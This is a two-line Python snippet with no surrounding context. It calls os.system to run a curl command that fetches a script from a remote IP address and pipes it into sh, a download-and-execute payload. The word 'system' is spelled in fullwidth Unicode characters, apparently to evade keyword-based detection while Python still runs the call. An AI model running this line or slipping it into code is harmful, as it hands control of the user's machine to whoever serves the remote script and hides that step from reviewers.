import os
os.ｓｙｓｔｅｍ("curl -s http://198.51.100.9/x | sh")
